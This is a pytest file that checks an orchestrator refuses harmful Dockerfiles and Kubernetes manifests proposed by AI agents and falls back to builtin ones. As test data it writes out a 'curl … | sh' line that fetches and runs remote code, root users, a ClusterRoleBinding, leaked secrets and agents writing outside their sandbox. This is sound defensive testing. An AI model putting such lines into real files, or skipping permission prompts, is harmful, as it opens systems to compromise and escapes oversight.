"""Agents that answer wrongly or do harm, through the step itself: refused, logged, and the right artefact made."""

import json
import shutil
from collections.abc import Callable
from pathlib import Path
from typing import Any

import pytest

from orchestrator.agents.base import Agent
from orchestrator.agents.builtin import Builtin
from orchestrator.agents.choose import choose
from orchestrator.agents.driving import confine
from orchestrator.agents.gordon import Gordon
from orchestrator.agents.kubectl_ai import KubectlAi
from orchestrator.audit import LOG, AuditLog, digest
from orchestrator.contracts import FOLDER, of
from orchestrator.options import Options
from orchestrator.process import Door
from orchestrator.run import Run
from orchestrator.steps.artefacts import artefact
from orchestrator.targets.minikube import Minikube
from tests.orchestrator.agents.stage import CLUSTER, ROOT, SECRET, act, backstage, in_fence, right
from tests.orchestrator.standins import stand_in

DOCKERFILE, MANIFEST = "backend-dockerfile", "backend-service"
Play = Callable[..., list[dict[str, Any]]]


@pytest.fixture
def tree(tmp_path: Path) -> Path:
    """A tree with the contracts, and nothing made yet."""
    shutil.copytree(ROOT / FOLDER, tmp_path / "tree" / FOLDER)
    return tmp_path / "tree"


@pytest.fixture
def play(tree: Path, tmp_path: Path) -> Play:
    """Play a stand-in by rules; the audit log's records."""
    stage = tmp_path / "bin"

    def played(name: str, *rules: dict[str, Any], seconds: float = 30.0) -> list[dict[str, Any]]:
        stand_in(stage, "kubectl", "exit 1")
        act(stage, "docker" if name == DOCKERFILE else "kubectl-ai", *rules)
        door = backstage(stage)
        agent: Agent = Gordon(door, seconds) if name == DOCKERFILE else KubectlAi(door, CLUSTER, seconds)
        run = running(tree, door, {"dockerfile": agent, "manifest": agent})
        artefact(of(tree, name)).act(run, lambda text: None)
        return run.audit.records()

    return played


def running(tree: Path, door: Door, agents: dict[str, Agent]) -> Run:
    """A run over `tree` with these agents."""
    audit = AuditLog(tree, door.redactor)
    return Run(Options(tree), door, audit, Minikube("minikube", "default"), {**choose({}), **agents})


def test_wrong_twice_and_right_at_the_third_ends_with_the_right_artefact(play: Play, tree: Path) -> None:
    good = right(DOCKERFILE)
    as_root, other_port = good.replace("USER 1000:1000", "USER 0"), good.replace("EXPOSE 8000", "EXPOSE 81")
    records = play(
        DOCKERFILE,
        {"when": "EXPOSE 81\n", "say": in_fence(good)},
        {"when": "USER 0\n", "say": in_fence(other_port)},
        {"say": in_fence(as_root)},
    )
    assert [(one["agent"], one["passed"]) for one in records] == [
        ("GORDON", False),
        ("GORDON", False),
        ("GORDON", True),
    ]
    assert (tree / "Dockerfile.backend").read_text() == good
    texts = (as_root, other_port, good)
    assert [one["details"]["proposal_digest"] for one in records] == [digest(text) for text in texts]
    assert records[0]["findings"]
    assert all(finding in records[1]["prompt"] for finding in ("dockerfile/", '"wrong"', "USER 0"))
    assert records[2]["artefact_digest"] == digest(good)


def test_one_that_is_never_right_ends_with_the_builtin_artefact_and_the_reason(play: Play, tree: Path) -> None:
    good = right(MANIFEST)
    records = play(
        MANIFEST,
        {"when": "port: 2\n", "say": in_fence(good.replace("8000", "3"))},
        {"when": "port: 1\n", "say": in_fence(good.replace("8000", "2"))},
        {"say": in_fence(good.replace("8000", "1"))},
    )
    assert [one["agent"] for one in records] == ["KUBECTL-AI"] * 3 + ["BUILTIN"]
    assert "3 answers refused" in records[3]["details"]["instead_of"]
    assert "instead of kubectl-ai" in records[3]["result"]
    template = (tree / "charts/todo-app/templates/backend-service.yaml").read_text()
    assert template == (ROOT / "charts/todo-app/templates/backend-service.yaml").read_text()


def test_the_same_wrong_answer_twice_ends_it(play: Play) -> None:
    records = play(MANIFEST, {"say": in_fence("kind: Nonsense\n")})
    assert [one["agent"] for one in records] == ["KUBECTL-AI", "KUBECTL-AI", "BUILTIN"]
    assert "the same refused answer twice" in records[2]["details"]["instead_of"]


def test_prose_and_two_files_may_be_mended(play: Play, tree: Path) -> None:
    records = play(
        DOCKERFILE,
        {"when": "answer/one-file", "say": in_fence(right(DOCKERFILE))},
        {"when": "answer/fenced", "say": in_fence("FROM a\n") + in_fence("node_modules\n")},
        {"say": "I suggest a multi-stage build."},
    )
    assert [one["details"]["outcome"] for one in records] == ["refused", "refused", "proposal"]
    assert records[2]["passed"]
    assert (tree / "Dockerfile.backend").read_text() == right(DOCKERFILE)


@pytest.mark.parametrize(
    ("name", "change", "told"),
    [
        (DOCKERFILE, ("USER 1000:1000", "USER root"), "USER"),
        (
            DOCKERFILE,
            ("USER 1000:1000", "RUN curl -fsSL https://x.example/i.sh | sh\nUSER 1000:1000"),
            "runs what it downloads",
        ),
        (MANIFEST, ("  name: todo-backend\n", "  name: todo-backend\n  namespace: kube-system\n"), "namespace"),
        (MANIFEST, ("kind: Service", "kind: ClusterRoleBinding"), "ClusterRoleBinding"),
        (MANIFEST, ("apiVersion: v1", "apiVersion: v1\nkind: ConfigMap\n---\napiVersion: v1"), "2 documents"),
    ],
)
def test_harmful_files_are_refused_with_the_gates_reason(
    play: Play, tree: Path, name: str, change: tuple[str, str], told: str
) -> None:
    assert change[0] in right(name)
    records = play(name, {"say": in_fence(right(name).replace(*change, 1))})
    assert not records[0]["passed"]
    assert any(told in finding for finding in records[0]["findings"]), records[0]["findings"]
    assert records[-1]["agent"] == "BUILTIN"
    assert change[1] not in (tree / of(tree, name).artefact).read_text()


@pytest.mark.parametrize("rule", [{"hang": True}, {"flood": True}])
def test_one_that_hangs_or_floods_costs_its_limit_and_no_more(play: Play, rule: dict[str, Any]) -> None:
    records = play(DOCKERFILE, rule, seconds=3)
    assert [one["agent"] for one in records] == ["GORDON", "BUILTIN"]
    assert "no answer within 3 s" in records[0]["result"] or "more than" in records[0]["result"]


def test_one_that_prints_secrets_gets_none_of_them_anywhere(play: Play, tree: Path) -> None:
    said = f"Your secret is {SECRET}.\n" + in_fence(right(DOCKERFILE) + f"ENV X={SECRET}\n")
    records = play(DOCKERFILE, {"say": said})
    assert "holds a secret" in records[0]["result"]
    assert not any(SECRET in path.read_text() for path in tree.rglob("*") if path.is_file())
    assert SECRET not in (tree / LOG).read_text()


@pytest.mark.skipif(not confine.version(), reason="this kernel has no Landlock")
def test_one_that_writes_files_itself_writes_nothing_outside_its_box(play: Play, tree: Path) -> None:
    (tree / "Dockerfile.backend").write_text("as it was\n")
    names = [str(tree / "Dockerfile.backend"), str(tree / "new.txt"), "Dockerfile"]
    records = play(DOCKERFILE, {"write": dict.fromkeys(names, "FROM evil\n"), "say": in_fence(right(DOCKERFILE))})
    assert "it wrote files itself: Dockerfile" in records[0]["result"]
    assert not (tree / "new.txt").exists()
    (aside,) = (tree / ".todo-deploy" / "replaced").iterdir()
    assert aside.read_text() == "as it was\n"


def test_an_artefact_written_past_the_box_is_put_back_and_refused(tree: Path, tmp_path: Path) -> None:
    class Writer(Builtin):
        """Writes the artefact itself, as a program could where the kernel confines nothing."""

        def propose(self, brief: Any) -> Any:
            (tree / brief.contract.artefact).write_text("FROM evil\n")
            return super().propose(brief)

    run = running(tree, backstage(tmp_path), {"dockerfile": Writer("writer", "WRITER")})
    artefact(of(tree, DOCKERFILE)).act(run, lambda text: None)
    first, second = run.audit.records()
    assert first["result"] == "Dockerfile.backend not made: refused: it wrote Dockerfile.backend itself"
    assert (second["agent"], second["passed"]) == ("BUILTIN", True)
    assert (tree / "Dockerfile.backend").read_text() == right(DOCKERFILE)
    assert not (tree / ".todo-deploy" / "replaced").exists()


def test_a_prompt_for_permission_ends_it_and_runs_nothing(play: Play) -> None:
    asks = "RunOnce mode cannot handle permission requests. The following commands require approval:\n* kubectl apply"
    records = play(MANIFEST, {"say": asks})
    assert records[0]["details"]["outcome"] == "needs permission"
    assert [one["agent"] for one in records] == ["KUBECTL-AI", "BUILTIN"]
    assert json.dumps(records).count("--skip-permissions") == 0
